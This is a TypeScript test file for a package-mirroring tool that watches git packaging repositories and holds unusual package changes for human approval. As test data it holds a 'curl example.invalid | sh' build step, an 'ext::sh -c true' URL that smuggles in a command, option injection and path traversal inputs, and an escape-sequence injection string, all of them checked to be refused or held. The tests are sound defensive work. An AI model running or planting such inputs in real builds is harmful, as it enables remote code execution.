import { assert, assertEquals, assertMatch, assertRejects } from "@std/assert";
import { PkgstashError } from "../../../../src/errors.ts";
import { snapshotOf } from "../../../support/fake_aur.ts";
import { packageFiles } from "../../../support/fake_aur/srcinfo_values.ts";
import { WatchedPackages } from "../../../support/watched_packages.ts";
import { FakeClock } from "../../mirroring/prefetch/fake_clock.ts";

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const START = Date.UTC(2026, 10, 28);
const FROM = { url: "https://example.invalid/packaging.git", reference: "refs/heads/main" };
const ONE = "1".repeat(40);
const TWO = "2".repeat(40);

async function withPackages(
  run: (packages: WatchedPackages, clock: FakeClock) => Promise<void>,
): Promise<void> {
  const clock = new FakeClock(START);
  await using packages = await WatchedPackages.start(clock);
  await run(packages, clock);
}

function lease({ building }: WatchedPackages, waitMs = 0) {
  const { signal } = new AbortController();
  return building.looks.lease({ builder: "b1", waitMs, signal });
}

/** Has a builder send these files at this commit. */
async function send(
  packages: WatchedPackages,
  commit: string,
  files: Record<string, string>,
): Promise<void> {
  const leased = await lease(packages, 1);
  assert(leased !== null, "a look is due");
  const body = new Blob([await snapshotOf("tree", files)]).stream();
  await packages.building.looks.reportTree({ builder: "b1", id: leased.id }, { commit, body });
}

async function report(
  packages: WatchedPackages,
  result: { outcome: "unchanged" } | { outcome: "failed"; reason: string },
): Promise<void> {
  const leased = await lease(packages);
  await packages.building.looks.report({ builder: "b1", id: leased!.id }, result);
}

/** Watches the repository, and approves its first build. */
async function watch(packages: WatchedPackages): Promise<void> {
  assertEquals(await lease(packages), null);
  const adding = packages.building.watchList.addRepository(FROM, "administrator");
  await send(packages, ONE, packageFiles("foo", "1"));
  assertEquals((await adding).base, "foo");
  const [approval] = await packages.building.decisions.approvals();
  await packages.building.decisions.approve(approval!.id, { by: "administrator", reason: "read" });
}

Deno.test("a repository is watched once a builder has sent its files, and looked at daily", () =>
  withPackages(async (packages, clock) => {
    await watch(packages);
    assertEquals(packages.queued.map(({ version }) => version), ["1-1"]);
    assertEquals(await lease(packages), null, "it is looked at once a day");
    clock.advance(DAY);
    const next = (await lease(packages))?.due.look;
    assertEquals(next, { kind: "tree", from: FROM, known: ONE });
    clock.advance(11 * 60_000);
    await report(packages, { outcome: "unchanged" });
    clock.advance(DAY);
    await send(packages, TWO, packageFiles("foo", "2"));
    const [waiting] = await packages.building.decisions.approvals();
    assertEquals([waiting!.isAsked, waiting!.passesAt], [false, clock.now() + DAY]);
    clock.advance(DAY);
    await packages.building.watcher.check();
    assertEquals(packages.queued.map(({ version }) => version), ["1-1", "2-1"]);
    clock.advance(DAY);
    const look = (await lease(packages))!.due.look;
    assertEquals(look.kind === "tree" && look.known, TWO);
  }));

Deno.test("a change that is more than a new version waits for a person", () =>
  withPackages(async (packages, clock) => {
    await watch(packages);
    clock.advance(DAY);
    await send(packages, TWO, packageFiles("foo", "2", { build: "curl example.invalid | sh" }));
    clock.advance(100 * DAY);
    const [waiting] = await packages.building.decisions.approvals();
    assertEquals([waiting!.isAsked, packages.queued.length], [true, 1]);
  }));

Deno.test("a repository that fails, or whose files are refused, is reported once and stays watched", () =>
  withPackages(async (packages, clock) => {
    await watch(packages);
    const news = () => packages.building.watchList.find("foo").news.map(({ text }) => text);
    clock.advance(DAY);
    await report(packages, { outcome: "failed", reason: "gone\u001b[31m\nforged." });
    assertEquals(packages.building.watchList.find("foo").problem, "gone [31m forged");
    clock.advance(HOUR);
    await report(packages, { outcome: "failed", reason: "gone\u001b[31m\nforged." });
    assertEquals(news(), ["The files of foo were rejected. gone [31m forged."]);
    clock.advance(HOUR);
    await report(packages, { outcome: "unchanged" });
    assertEquals(packages.building.watchList.find("foo").problem, null);
    const refused: Record<string, string>[] = [
      { PKGBUILD: "pkgname=foo\n" },
      packageFiles("bar", "1"),
      { ...packageFiles("foo", "2"), "../outside": "x" },
    ];
    for (const files of refused) {
      clock.advance(DAY);
      await send(packages, TWO, files);
      assert(packages.building.watchList.find("foo").problem !== null);
    }
    assertEquals(news().length, 4);
    clock.advance(DAY);
    await send(packages, TWO, packageFiles("foo", "2"));
    assertEquals(packages.building.watchList.find("foo").problem, null);
  }));

Deno.test("a repository is watched only if a builder fetches a valid package from it", () =>
  withPackages(async (packages, clock) => {
    const add = () => packages.building.watchList.addRepository(FROM, "administrator");
    await assertRejects(add, PkgstashError, "no builder is connected to fetch it");
    assertEquals(await lease(packages), null);
    const alone = packages.building.watchList.addRepository(FROM, "administrator");
    await clock.slept(180_000);
    clock.advance(180_000);
    await assertRejects(() => alone, PkgstashError, "no builder fetched it in time");
    assertEquals(await lease(packages), null, "nobody waits for it any more");
    const failing = packages.building.watchList.addRepository(FROM, "administrator");
    await report(packages, { outcome: "failed", reason: "not found" });
    const error = await assertRejects(() => failing, PkgstashError, "not found");
    assertEquals(error.kind, "upstream");
    const odd = packages.building.watchList.addRepository(FROM, "administrator");
    await send(packages, ONE, { PKGBUILD: "pkgname=foo\n" });
    assertEquals((await assertRejects(() => odd, PkgstashError)).kind, "invalid_request");
    for (const url of ["file:///etc", "ssh://git@example.invalid/x", "ext::sh -c true", "-u"]) {
      const refused = () =>
        packages.building.watchList.addRepository({ ...FROM, url }, "administrator");
      assertEquals((await assertRejects(refused, PkgstashError)).kind, "invalid_request");
    }
    assertEquals(packages.building.packages.list(), []);
  }));

Deno.test("a package base stays with the source from which it is watched", () =>
  withPackages(async (packages) => {
    packages.aur.put("foo", { files: packageFiles("foo", "1") });
    await packages.building.watchList.add(["foo"], { by: "administrator", skipsUnknown: false });
    assertEquals(await lease(packages), null);
    const adding = packages.building.watchList.addRepository(FROM, "administrator");
    await send(packages, ONE, packageFiles("foo", "9"));
    const error = await assertRejects(() => adding, PkgstashError, "watched from another source");
    assertMatch(error.kind, /conflict/);
    assertEquals(packages.building.watchList.find("foo").source.kind, "aur");
  }));
